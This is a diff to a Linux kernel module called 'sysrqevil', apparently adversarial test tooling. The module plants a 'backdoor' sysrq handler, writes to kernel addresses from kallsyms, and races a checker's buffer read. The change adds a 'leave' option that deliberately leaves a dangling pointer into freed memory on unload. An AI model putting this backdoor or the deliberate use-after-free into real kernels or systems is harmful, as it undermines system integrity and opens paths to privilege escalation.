@@ -10,6 +10,8 @@
  *   act=handle key=C           handle_sysrq(C)
  *   act=rawmask mask=N addr=A  write N to the mask at A (sysrq_enabled)
  *   act=rawkey key=C addr=A    put the backdoor in slot C of the table at A
+ *                              (leave=1: and leave it there when unloaded, a
+ *                              pointer into freed memory)
  *   act=flip key=C comm=NAME   rewrite a task's one-byte buffer to C right
  *                              after a checker read it
  *
@@ -36,6 +38,9 @@ MODULE_PARM_DESC(key, "command key for register, handle and rawkey");
 static unsigned long addr;
 module_param(addr, ulong, 0444);
 MODULE_PARM_DESC(addr, "kernel address for rawmask and rawkey (from /proc/kallsyms)");
+static bool leave;
+module_param(leave, bool, 0444);
+MODULE_PARM_DESC(leave, "rawkey: do not put the slot back on unload");
 static char *comm = "";
 module_param(comm, charp, 0444);
 MODULE_PARM_DESC(comm, "task name whose buffer flip rewrites");
@@ -137,7 +142,7 @@ static void __exit sysrqevil_exit(void)
 {
 	if (registered)
 		unregister_sysrq_key(key[0], &backdoor_op);
-	if (raw_slot && READ_ONCE(*raw_slot) == &backdoor_op)
+	if (raw_slot && !leave && READ_ONCE(*raw_slot) == &backdoor_op)
 		WRITE_ONCE(*raw_slot, raw_saved);
 	if (flip_armed)
 		unregister_kretprobe(&flip_probe);
